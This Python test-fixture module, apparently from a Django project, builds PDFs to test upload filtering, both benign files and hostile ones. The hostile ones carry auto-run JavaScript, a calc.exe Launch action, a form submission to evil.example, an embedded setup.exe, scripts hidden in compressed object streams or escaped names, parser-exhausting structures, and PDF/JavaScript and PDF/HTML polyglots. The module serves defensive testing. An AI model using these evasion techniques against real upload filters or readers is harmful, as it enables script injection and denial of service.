"""Real PDFs for the upload tests: ordinary ones, ones that carry scripts, and hostile ones.

Most are written with pypdf's PdfWriter. Shapes a writer will not produce (objects packed
into a compressed object stream, nesting deeper than any writer goes) are assembled object
by object with `assemble`, into files pypdf and PDF readers open.
"""

import io
import re
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ImageFont
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

SCRIPT = "app.alert(document.domain)"


def upload(data, name="report.pdf"):
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def written(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def blank_writer(pages=1):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 280)
    return writer


def blank_pdf(pages=1):
    return written(blank_writer(pages))


def pdf_name(value):
    return NameObject(value)


def action(kind, **entries):
    """An action dictionary of type `kind` (/JavaScript, /Launch, /GoTo…)."""
    return DictionaryObject(
        {pdf_name("/Type"): pdf_name("/Action"), pdf_name("/S"): pdf_name(kind)}
        | {pdf_name(f"/{key}"): value for key, value in entries.items()}
    )


def javascript_action(code=SCRIPT):
    return action("/JavaScript", JS=TextStringObject(code))


HOSTILE_ACTIONS = {
    "javascript": javascript_action,
    "launch": lambda: action("/Launch", F=TextStringObject("calc.exe")),
    "submit-form": lambda: action("/SubmitForm", F=TextStringObject("https://evil.example/")),
    "import-data": lambda: action("/ImportData", F=TextStringObject("data.fdf")),
    "rich-media": lambda: action("/RichMediaExecute", TI=DictionaryObject()),
}


# Where a reader finds an action to run: each takes an action and returns PDF bytes.


def on_open(act):
    writer = blank_writer()
    writer.root_object[pdf_name("/OpenAction")] = act
    return written(writer)


def in_catalog_additional_actions(act):
    writer = blank_writer()
    writer.root_object[pdf_name("/AA")] = DictionaryObject({pdf_name("/WC"): act})  # will close
    return written(writer)


def on_page_open(act):
    writer = blank_writer()
    writer.pages[0][pdf_name("/AA")] = DictionaryObject({pdf_name("/O"): act})
    return written(writer)


def annotation(subtype, **entries):
    return DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 100, 40)]),
        }
        | {pdf_name(f"/{key}"): value for key, value in entries.items()}
    )


def on_link_click(act):
    writer = blank_writer()
    writer.add_annotation(0, annotation("/Link", A=act))
    return written(writer)


def on_annotation_hover(act):
    writer = blank_writer()
    writer.add_annotation(0, annotation("/Link", AA=DictionaryObject({pdf_name("/E"): act})))
    return written(writer)


def on_form_field_keystroke(act):
    writer = blank_writer()
    field = writer.add_annotation(
        0,
        annotation(
            "/Widget",
            FT=pdf_name("/Tx"),
            T=TextStringObject("amount"),
            AA=DictionaryObject({pdf_name("/K"): act}),
        ),
    )
    writer.root_object[pdf_name("/AcroForm")] = DictionaryObject(
        {pdf_name("/Fields"): ArrayObject([field.indirect_reference])}
    )
    return written(writer)


def after_an_ordinary_go_to(act):
    """`act` hidden at the end of a /Next chain behind an innocent /GoTo on opening."""
    writer = blank_writer()
    destination = ArrayObject([writer.pages[0].indirect_reference, pdf_name("/Fit")])
    middle = action("/GoTo", D=destination, Next=ArrayObject([act]))
    writer.root_object[pdf_name("/OpenAction")] = action("/GoTo", D=destination, Next=middle)
    return written(writer)


PLACES = {
    "open-action": on_open,
    "catalog-additional-actions": in_catalog_additional_actions,
    "page-open": on_page_open,
    "link": on_link_click,
    "annotation-additional-actions": on_annotation_hover,
    "form-field": on_form_field_keystroke,
    "next-chain": after_an_ordinary_go_to,
}


def go_to_other_file(kind, target):
    """A /GoToR or /GoToE action to the first page of the PDF at `target`."""
    first_page = ArrayObject([NumberObject(0), pdf_name("/Fit")])
    return action(kind, F=TextStringObject(target), D=first_page)


def play_media(target):
    """A /Rendition action playing the media clip at `target`."""
    spec = DictionaryObject(
        {pdf_name("/Type"): pdf_name("/Filespec"), pdf_name("/F"): TextStringObject(target)}
    )
    clip = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/MediaClip"),
            pdf_name("/S"): pdf_name("/MCD"),
            pdf_name("/D"): spec,
        }
    )
    rendition = DictionaryObject(
        {pdf_name("/Type"): pdf_name("/Rendition"), pdf_name("/S"): pdf_name("/MR")}
    )
    rendition[pdf_name("/C")] = clip
    return action("/Rendition", OP=NumberObject(0), R=rendition)


def with_internal_link():
    """A link on the first page to the second, as a table of contents has."""
    writer = blank_writer(2)
    destination = ArrayObject([writer.pages[1].indirect_reference, pdf_name("/Fit")])
    writer.add_annotation(0, annotation("/Link", A=action("/GoTo", D=destination)))
    return written(writer)


def with_link_base(base, target):
    """A relative link to `target`, resolved against the document's link base `base`."""
    writer = blank_writer()
    writer.root_object[pdf_name("/URI")] = DictionaryObject(
        {pdf_name("/Base"): TextStringObject(base)}
    )
    writer.add_annotation(0, annotation("/Link", A=action("/URI", URI=TextStringObject(target))))
    return written(writer)


def with_javascript_name_tree():
    """Document-level JavaScript, as Acrobat's "Document JavaScripts" writes it."""
    writer = blank_writer()
    writer.add_open_action(JavaScript(SCRIPT))
    return written(writer)


def with_rich_media_annotation():
    """A Flash (RichMedia) annotation: content the reader runs, whatever its actions."""
    writer = blank_writer()
    writer.add_annotation(0, annotation("/RichMedia"))
    return written(writer)


def with_go_to_on_open(as_array=True):
    """Open at the first page, as InDesign (a bare destination) and Word (a /GoTo) write it."""
    writer = blank_writer(2)
    destination = ArrayObject([writer.pages[0].indirect_reference, pdf_name("/Fit")])
    writer.root_object[pdf_name("/OpenAction")] = (
        destination if as_array else action("/GoTo", D=destination)
    )
    return written(writer)


def with_embedded_font():
    """A page of text set in an embedded TrueType font (Pillow's bundled Aileron)."""
    font_bytes = ImageFont.load_default(size=12).font_bytes
    writer = blank_writer()
    font_file = DecodedStreamObject()
    font_file.set_data(font_bytes)
    font_file[pdf_name("/Length1")] = NumberObject(len(font_bytes))
    descriptor = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/FontDescriptor"),
            pdf_name("/FontName"): pdf_name("/Aileron"),
            pdf_name("/Flags"): NumberObject(32),
            pdf_name("/FontBBox"): ArrayObject([NumberObject(n) for n in (0, -200, 1000, 900)]),
            pdf_name("/ItalicAngle"): NumberObject(0),
            pdf_name("/Ascent"): NumberObject(800),
            pdf_name("/Descent"): NumberObject(-200),
            pdf_name("/CapHeight"): NumberObject(700),
            pdf_name("/StemV"): NumberObject(80),
            pdf_name("/FontFile2"): writer._add_object(font_file),
        }
    )
    font = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/TrueType"),
            pdf_name("/BaseFont"): pdf_name("/Aileron"),
            pdf_name("/FirstChar"): NumberObject(32),
            pdf_name("/LastChar"): NumberObject(126),
            pdf_name("/Widths"): ArrayObject([NumberObject(500)] * 95),
            pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
            pdf_name("/FontDescriptor"): writer._add_object(descriptor),
        }
    )
    page = writer.pages[0]
    page[pdf_name("/Resources")] = DictionaryObject(
        {pdf_name("/Font"): DictionaryObject({pdf_name("/F1"): writer._add_object(font)})}
    )
    text = DecodedStreamObject()
    text.set_data(b"BT /F1 12 Tf 20 200 Td (Gulf security) Tj ET")
    page[pdf_name("/Contents")] = writer._add_object(text)
    return written(writer)


def with_attachment():
    writer = blank_writer()
    writer.add_attachment("figures.xlsx", b"PK\x03\x04 a spreadsheet")
    return written(writer)


def with_attachment_annotation():
    """A file attached to a page as a paper-clip annotation, not in the attachments list."""
    writer = blank_writer()
    embedded = DecodedStreamObject()
    embedded.set_data(b"MZ a program")
    embedded[pdf_name("/Type")] = pdf_name("/EmbeddedFile")
    spec = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Filespec"),
            pdf_name("/F"): TextStringObject("setup.exe"),
            pdf_name("/EF"): DictionaryObject({pdf_name("/F"): writer._add_object(embedded)}),
        }
    )
    writer.add_annotation(0, annotation("/FileAttachment", FS=spec))
    return written(writer)


def password_protected():
    writer = blank_writer()
    writer.encrypt("embargo")
    return written(writer)


def restricted_without_password():
    """Encrypted with an owner password only: readers open it but may not print or copy."""
    writer = blank_writer()
    writer.encrypt(user_password="", owner_password="no-printing")
    return written(writer)


# Hostile files the writer will not produce ------------------------------------


def assemble(objects, *, root=1, packed=()):
    """A PDF 1.5 file of `objects` ({number: body bytes}) with a cross-reference stream.

    The objects numbered in `packed` go into one compressed object stream, where their
    bytes cannot be seen without parsing the file.
    """
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets, slots = {}, {}
    for number, body in objects.items():
        if number not in packed:
            offsets[number] = out.tell()
            out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    stream_number = max(objects) + 1
    if packed:
        bodies, index, position = [], [], 0
        for slot, number in enumerate(packed):
            slots[number] = slot
            index.append(b"%d %d" % (number, position))
            bodies.append(objects[number])
            position += len(objects[number]) + 1
        header = b" ".join(index) + b"\n"
        data = zlib.compress(header + b"\n".join(bodies) + b"\n")
        offsets[stream_number] = out.tell()
        out.write(
            b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
            b"stream\n%s\nendstream\nendobj\n"
            % (stream_number, len(packed), len(header), len(data), data)
        )
    xref_number = stream_number + 1
    offsets[xref_number] = out.tell()
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    for number in range(1, xref_number + 1):
        if number in slots:
            rows.append(b"\x02" + stream_number.to_bytes(4) + slots[number].to_bytes(2))
        elif number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4) + b"\x00\x00")
        else:
            rows.append(b"\x00\x00\x00\x00\x00\xff\xff")
    table = b"".join(rows)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (xref_number, xref_number + 1, root, len(table), table, offsets[xref_number])
    )
    return out.getvalue()


ONE_PAGE = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 280] >>",
}


def javascript_in_object_stream():
    """Open-action JavaScript whose every object sits in a compressed object stream."""
    objects = ONE_PAGE | {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        4: b"<< /S /JavaScript /JS (%s) >>" % SCRIPT.encode(),
    }
    return assemble(objects, packed=(1, 2, 3, 4))


def with_escaped_name_javascript():
    """/JavaScript spelt with #-escapes, which readers decode: raw bytes never show it."""
    objects = ONE_PAGE | {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Java#53cript /J#53 (1) >> >>"
    }
    return assemble(objects)


def with_cyclic_actions():
    """An ordinary /GoTo whose /Next chain loops back to itself."""
    objects = ONE_PAGE | {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",
    }
    return assemble(objects)


def with_long_action_chain(length):
    """`length` harmless /GoTo actions, each one's /Next the next."""
    objects = dict(ONE_PAGE)
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    for number in range(4, 4 + length):
        objects[number] = b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % (number + 1)
    objects[4 + length] = b"<< /S /GoTo /D [3 0 R /Fit] >>"
    return assemble(objects)


def with_nesting(depth):
    """A catalog entry `depth` arrays deep: each level is one more recursion to parse."""
    objects = ONE_PAGE | {
        1: b"<< /Type /Catalog /Pages 2 0 R /PieceInfo %s >>" % (b"[" * depth + b"]" * depth)
    }
    return assemble(objects)


def with_page_tree(pages, declared):
    """A page tree listing one page `pages` times whose /Count claims `declared` pages."""
    kids = b" ".join([b"3 0 R"] * pages)
    return assemble(ONE_PAGE | {2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, declared)})


def with_missing_catalog(declared_objects):
    """No catalog, and a trailer claiming `declared_objects` objects: pypdf looks for a
    catalog among them all, searching the whole file for each one it cannot find."""
    data = assemble({1: b"<< /Type /NotACatalog >>"})
    return re.sub(rb"/Size \d+", b"/Size %d" % declared_objects, data, count=1)


def with_huge_cross_reference_table():
    """A cross-reference table claiming a billion objects, which pypdf refuses to read."""
    return re.sub(rb"\nxref\n0 \d+\n", b"\nxref\n0 1000000000\n", blank_pdf(), count=1)


# The polyglots of the adversarial review: one file, two meanings -----------------


def javascript_polyglot():
    """A valid PDF inside a JavaScript comment: served as text/javascript, it runs."""
    pdf = blank_pdf()
    assert b"*/" not in pdf, "the comment must not close early"
    return b"/*\n" + pdf + b"*/alert(document.domain)//"


def html_polyglot(script_url="/media/reports/2026/01/report.js"):
    """A valid PDF inside an HTML comment, then a script tag that loads the other one."""
    return b"<!--\n" + blank_pdf() + b'-->\n<script src="%s"></script>\n' % script_url.encode()
